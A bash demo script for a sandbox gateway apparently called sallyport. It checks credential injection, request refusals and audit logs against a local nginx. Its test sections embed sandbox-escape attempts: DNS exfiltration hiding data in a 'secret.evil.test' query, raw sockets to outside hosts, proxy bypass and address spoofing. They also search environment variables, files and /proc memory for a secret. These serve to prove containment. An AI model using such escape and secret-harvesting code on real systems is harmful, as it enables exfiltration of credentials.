#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# `make demo`: the main job in front of your eyes. A real nginx on this machine plays the API; nothing else is reached.
# What is promised is also checked: if something is not as the text says, it is marked and the exit status is 1.
NAME=demo
. "$(dirname "$0")/lib.sh"
if ! unshare -Ur true 2>/dev/null; then echo "demo: user namespaces cannot be made here, so there are no sandboxes; see: sallyport doctor"; exit 1; fi
b=$'\033[1m' r=$'\033[0m'
[ -t 1 ] || b='' r=''
say() { printf '\n%s== %s%s\n' "$b" "$*" "$r"; }
tell() { printf '   %s\n' "$@"; }
# what was just shown (in $T/shown) must hold the text, or must not
show() { sed "s#$WORK/##g; s/^/   /" | tee "$T/shown"; }
must() { grep -qF -- "$1" "$T/shown" || { echo "   !! not as promised: '$1' is missing"; FAILED=1; }; }
must_not() { ! grep -qF -- "$1" "$T/shown" || { echo "   !! not as promised: '$1' is there"; FAILED=1; }; }
make_pki
start_nginx
write_policy
sed -i 's/^name: .*/name: demo/; s/E2E_SECRET/API_KEY/' "$WORK/policy.yaml"
run() { (cd "$WORK" && API_KEY=$SECRET timeout 60 "$SP" run --quiet --policy policy.yaml --name "$RUN" -- "$@") 2>&1; }

say "The policy: what the sandbox may do, and which credential is added for it"
sed -n '/^secrets/,/inject:/p; /{ secret/p' "$WORK/policy.yaml" | show
tell "" "api.test is an nginx on this machine with a certificate of its own authority. The real key is in the caller's API_KEY: $SECRET"

say "1. An allowed call: the gateway adds the credential, the sandbox never has it"
RUN=demo-call
tell "\$ sallyport run --policy policy.yaml -- sh -c 'echo \$API_TOKEN; curl https://api.test/v1/hello'"
run sh -c 'echo "the variable inside:  API_TOKEN=$API_TOKEN"; printf "the answer inside:    "; curl -sS -m 20 https://api.test/v1/hello' | show
must "hello, you sent Bearer ****"
must_not "$SECRET"
printf 'what nginx logged:    %s\n' "$(grep -o 'auth=.* key' "$T/ngx/access.log" | head -n 1 | sed 's/ key//')" | show
must "auth=Bearer $SECRET"
tell "nginx echoed the credential in its answer; the gateway overwrote the echo, with the same length."

say "2. Refused: a method, a path, a host. Each refusal says why, to programs and to people"
RUN=demo-refuse
cat >"$WORK/show.py" <<'P'
import json, sys
head, body = sys.stdin.read().replace("\r", "").rsplit("\n\n", 1)
o = json.loads(body)
print("  ", [l for l in head.split("\n") if l.startswith("HTTP/")][-1].strip() + ",", o["error"])
print("  ", o["reason"] + ("; what would pass here: " + ", ".join(o["allowed"]) if o["allowed"] else ""))
P
run sh -c 'for a in "-X DELETE https://api.test/v1/hello" "https://api.test/v1/hidden/plans" "https://elsewhere.test/"; do echo "\$ curl $a"; curl -sS -m 20 -i $a | python3 show.py; done' | show
[ "$(grep -c 'HTTP/[0-9.]* 403' "$T/shown")" -eq 3 ] || { echo "   !! not as promised: three refusals"; FAILED=1; }
must policy_denied
must destination_denied

say "3. Attempts to go around the gateway"
RUN=demo-around
cat >"$WORK/around.py" <<'P'
import os, socket, subprocess, sys
clean = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
def t(what, fn):
    try: r = fn()
    except OSError as e: r = "refused (%s)" % e.strerror
    print("%-58s %s" % (what, r), flush=True)
def tcp(a, p, fam=socket.AF_INET):
    s = socket.socket(fam); s.settimeout(5); s.connect((a, p)); s.send(b"hello\r\n"); return "ANSWERED" if s.recv(10) else "closed, nothing came back"
def udp(a, p):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect((a, p)); s.send(b"x"); s.recv(1); return "ANSWERED"
def dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\x10\0\1", ("8.8.8.8", 53)); r = s.recvfrom(512)[0]
    return "answered by the gateway itself: %d records" % r[7]
def curl(*a): return subprocess.run(["curl", "-sS", "-m", "20", *a], env=clean, capture_output=True, text=True).stdout.strip()
t("TCP to an address, 1.1.1.1:22", lambda: tcp("1.1.1.1", 22))
t("the same over IPv6", lambda: tcp("2606:4700::1111", 22, socket.AF_INET6))
t("nginx's own port on 127.0.0.1", lambda: tcp("127.0.0.1", int(sys.argv[1])))
t("UDP to 8.8.8.8:443", lambda: udp("8.8.8.8", 443))
t("a name server of its own, data hidden in the name", dns)
t("proxy variables unset, an allowed call", lambda: curl("-o", "/dev/null", "-w", "HTTP %{http_code}: caught, and through the gateway all the same", "https://api.test/v1/hello"))
t("proxy variables unset, a refused host", lambda: curl("-o", "/dev/null", "-w", "HTTP %{http_code}: caught, and refused", "https://elsewhere.test/"))
t("an address of its choice for an allowed name", lambda: curl("--resolve", "api.test:443:203.0.113.9", "-o", "/dev/null", "-w", "HTTP %{http_code}: the address is ignored, the name decides", "https://api.test/v1/hello"))
P
run python3 around.py "$PORT" | show
must_not ANSWERED
must "the gateway itself: 0 records"
must "HTTP 200: caught"
must "HTTP 403: caught"

say "4. The search for the secret inside: variables, files, and the memory of what runs there"
RUN=demo-search
half=$((${#SECRET} / 2))
cat >"$WORK/search.py" <<'P'
# The value comes in two halves, so that this search does not find itself.
import os, subprocess, sys
needle = (sys.argv[1] + sys.argv[2]).encode(); looked = {"variables": 0, "files": 0, "mappings": 0}; hits = []
subprocess.run(["curl", "-sS", "-m", "20", "-o", "/tmp/answer", "https://api.test/v1/hello"])
def look(kind, name, data):
    looked[kind] += 1
    if needle in data: hits.append(name)
for k, v in os.environ.items(): look("variables", k, v.encode())
for top in ("/etc", "/run", "/tmp", "/home", "/root", "/var", "/dev/shm", os.getcwd()):
    for d, _, fs in os.walk(top):
        for p in (os.path.join(d, f) for f in fs):
            try:
                if os.path.isfile(p) and os.path.getsize(p) < 1 << 24: look("files", p, open(p, "rb").read())
            except OSError: pass
for pid in filter(str.isdigit, os.listdir("/proc")):
    for f in ("environ", "cmdline"):
        try: look("files", "/proc/%s/%s" % (pid, f), open("/proc/%s/%s" % (pid, f), "rb").read())
        except OSError: pass
    if int(pid) == os.getpid(): continue # it would find what it searches with
    try:
        for m in open("/proc/%s/maps" % pid).read().splitlines():
            a, b = (int(x, 16) for x in m.split()[0].split("-"))
            with open("/proc/%s/mem" % pid, "rb", 0) as mem:
                try: mem.seek(a); look("mappings", "/proc/%s/mem" % pid, mem.read(b - a))
                except (OSError, OverflowError, ValueError): pass
    except OSError: pass
print("looked at", ", ".join("%d %s" % (n, k) for k, n in looked.items()) + ":", len(hits), "hits", *hits)
P
run sh -c "sleep 30 & python3 search.py '${SECRET:0:$half}' '${SECRET:$half}'; kill \$!" | show
must ": 0 hits"

say "5. The record of all of it: sallyport logs"
"$SP" stop --all >/dev/null 2>&1
"$SP" logs | grep -vE '  lifecycle  |  secret  |  connection  allowed' | sed -E 's/^[0-9]+-[0-9]+-[0-9]+[ T]//; s/  [0-9]+(\.[0-9]+)?m?s$//' | sed "s#$WORK/##g" | cut -c1-200 | show
record_lines >"$T/shown" # what was shown is read by people; what must be in it is checked in the records themselves
must "demo-call request allow - GET api.test 443 /v1/hello 200"
must "demo-refuse request deny policy_denied DELETE api.test 443 /v1/hello 403"
must "demo-refuse request deny policy_denied GET api.test 443 /v1/hidden/plans 403"
must "demo-refuse request deny destination_denied GET elsewhere.test"
must "demo-around connection deny destination_denied - 1.1.1.1 22"
must "demo-around dns deny destination_denied - secret.evil.test"
must "demo-around request allow - GET api.test"
tell "" "\$ sallyport logs verify"
"$SP" logs verify | show
must "ok: "
if grep -rqF -- "$SECRET" "$STATE"; then echo "   !! not as promised: the state directory holds the secret"; FAILED=1; fi
echo
[ $FAILED -eq 0 ] && tell "All as promised. Next: README.md, \"A first policy\"." || tell "NOT all as promised: see the lines marked !!"
check_done
